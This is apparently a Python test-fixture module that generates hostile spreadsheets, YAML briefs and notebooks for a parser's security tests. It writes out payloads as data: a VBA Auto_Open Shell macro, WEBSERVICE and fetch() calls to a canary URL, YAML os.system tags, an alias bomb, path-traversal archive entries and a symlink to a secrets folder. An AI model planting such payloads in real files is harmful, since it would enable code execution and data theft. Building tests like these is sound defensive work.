"""Spreadsheets and YAML files that can be read, and do more than that where a program lets them."""

from collections.abc import Callable
from pathlib import Path

from hostile.canaries import Canaries, secret_of
from hostile.case import Make, Source
from hostile.workbooks import HEAD, formula, row_of, sheet_of, text, xlsx

_HEAD = row_of(*map(text, HEAD))
_START = "format: 1\ntitle: {name}\ngoal:\n  statement: Words\n"


def book(build: Callable[[Path, Callable[[str], str], str], object]) -> Make:
    """A workbook of the case's name, built from a path, a function that arms texts, and the title."""

    def make(folder: Path, canaries: Canaries, name: str) -> Path:
        path = folder / f"{name}.xlsx"
        build(path, lambda words: canaries.armed(words, name), name)
        return path

    return make


def yaml(words: str) -> Make:
    """A folder with a brief of these words in it."""

    def make(folder: Path, canaries: Canaries, name: str) -> Path:
        text = canaries.armed(words.replace("{name}", name), name)
        (folder / "brief.yaml").write_text(text, "utf-8")
        return folder

    return make


def notebook(folder: Path, canaries: Canaries, name: str) -> Path:
    """A brief with a workbook beside it, in which a stranger put code, pictures and results of his own."""
    import json

    def cell(kind: str, source: str, **more: object) -> dict[str, object]:
        words = canaries.armed(source, name)
        return {"cell_type": kind, "id": f"c{len(words)}", "metadata": {}, "source": words, **more}

    shown = {"text/html": canaries.armed("<img src='@URL@'>", name)}
    output = {"output_type": "display_data", "metadata": {}, "data": shown}
    cells = [
        cell("code", 'brief = "brief.yaml"', outputs=[], execution_count=None),
        cell("code", "!touch @RAN@", outputs=[output], execution_count=1),
        cell("markdown", "<script>fetch('@URL@')</script> ![x](@URL@) [y](javascript:alert(1))"),
        cell("markdown", f"A note with {{{{ cycler }}}} and ![z](@SECRET@) {shown_of(name)}"),
    ]
    cells[0]["metadata"] = {"tags": ["parameters"]}
    made = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (folder / "brief.ipynb").write_text(json.dumps(made), "utf-8")
    (folder / "brief.yaml").write_text(_START.format(name=name), "utf-8")
    return folder


def shown_of(name: str) -> str:
    """A word by which a text is found again in a document."""
    return f"sh{secret_of(f'{name} shown')[2:12]}"


def _linked_notebook(folder: Path, canaries: Canaries, name: str) -> Path:
    (folder / "brief.ipynb").symlink_to(canaries.secrets / name)
    (folder / "brief.yaml").write_text(_START.format(name=name), "utf-8")
    return folder


_MACROS = {
    "xl/vbaProject.bin": b'\xd0\xcf\x11\xe0 Sub Auto_Open() Shell "touch @RAN@" End Sub',
    "xl/macrosheets/sheet1.xml": sheet_of(row_of(formula('EXEC("touch x")'))),
}
_OUTSIDE = {
    "xl/externalLinks/externalLink1.xml": "<externalLink/>",
    "xl/externalLinks/_rels/externalLink1.xml.rels": "<Relationships/>",
    "xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>',
}
_LINKS = '<hyperlinks><hyperlink ref="A2" r:id="rId9" location="x"/></hyperlinks>'
_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + at)}: &{chr(98 + at)} [{', '.join([f'*{chr(97 + at)}'] * 9)}]\n" for at in range(8)
)
_ALIAS, _TAG = ("alias",), ("tag",)

SOURCES: tuple[Source, ...] = (
    Source(
        name="xlsx-formula-without-result", kind="xlsx", fate="refused", said=("the formula", "without its result"),
        make=book(lambda path, armed, name: xlsx(path, sheet=sheet_of(
            _HEAD + row_of(text(name), formula(armed('WEBSERVICE("@URL@")')))))),
    ),
    Source(
        name="xlsx-formula-with-result", kind="xlsx",
        make=book(lambda path, armed, name: xlsx(path, sheet=sheet_of(
            _HEAD + row_of(text(name), formula(armed('WEBSERVICE("@URL@")'), f"=1+1 {shown_of(name)}"))))),
    ),
    Source(
        name="xlsx-external-links", kind="xlsx",
        make=book(lambda path, armed, name: xlsx(
            path, [HEAD, (name, shown_of(name))], more=_OUTSIDE,
            relations=[("externalLink", armed("@URL@"), "External"), ("attachedTemplate", armed("@URL@"), "External"),
                       ("connections", "connections.xml", "")])),
    ),
    Source(
        name="xlsx-macros", kind="xlsx",
        make=book(lambda path, armed, name: xlsx(
            path, [HEAD, (name, shown_of(name))],
            more={part: armed(content) if isinstance(content, str) else content for part, content in _MACROS.items()},
            relations=[("vbaProject", "vbaProject.bin", ""), ("xlMacrosheet", "macrosheets/sheet1.xml", "")])),
    ),
    Source(
        name="xlsx-cell-links", kind="xlsx",
        make=book(lambda path, armed, name: xlsx(
            path, sheet=sheet_of(_HEAD + row_of(text(name), text(shown_of(name))), _LINKS),
            more={"xl/worksheets/_rels/sheet1.xml.rels": armed(
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                'Id="rId9" Type="x" Target="@URL@" TargetMode="External"/></Relationships>')})),
    ),
    Source(
        name="xlsx-parts-that-lead-out", kind="xlsx",
        make=book(lambda path, armed, name: xlsx(
            path, [HEAD, (name, shown_of(name))], more={"../../../ran": "x", armed("@RAN@"): "x"})),
    ),
    Source(name="yaml-tag-of-python", kind="yaml file", fate="refused", said=_TAG,
           make=yaml("format: 1\ntitle: {name}\ngoal: !!python/object/apply:os.system ['touch @RAN@']\n")),
    Source(name="yaml-tag-of-a-new-object", kind="yaml file", fate="refused", said=_TAG,
           make=yaml("format: 1\ntitle: !!python/name:os.system x\ngoal: {statement: x}\n")),
    Source(name="yaml-tag-that-includes", kind="yaml file", fate="refused", said=_TAG,
           make=yaml("format: 1\ntitle: {name}\ngoal: !include @SECRET@\n")),
    Source(name="yaml-bomb-of-aliases", kind="yaml file", fate="refused", said=_ALIAS,
           make=yaml(f"format: 1\ntitle: {{name}}\n{_BOMB}goal: {{statement: x}}\n".replace("{statement: x}", "*i"))),
    Source(name="yaml-alias-of-itself", kind="yaml file", fate="refused", said=_ALIAS,
           make=yaml("format: 1\ntitle: {name}\ngoal: &g {statement: x, levers: *g}\n")),
    Source(name="yaml-deep", kind="yaml file", fate="refused", said=("levels",),
           make=yaml("format: 1\ntitle: {name}\ngoal: " + "[" * 20_000 + "\n")),
    Source(name="yaml-second-document", kind="yaml file", fate="refused", said=("document",),
           make=yaml(f"{_START}--- !!python/object/apply:os.system ['touch @RAN@']\n")),
    Source(name="notebook-beside-a-brief", kind="notebook", make=notebook),
    Source(name="notebook-that-leads-out", kind="notebook", fate="refused", said=("a link that leads out of it",),
           make=_linked_notebook),
)  # fmt: skip
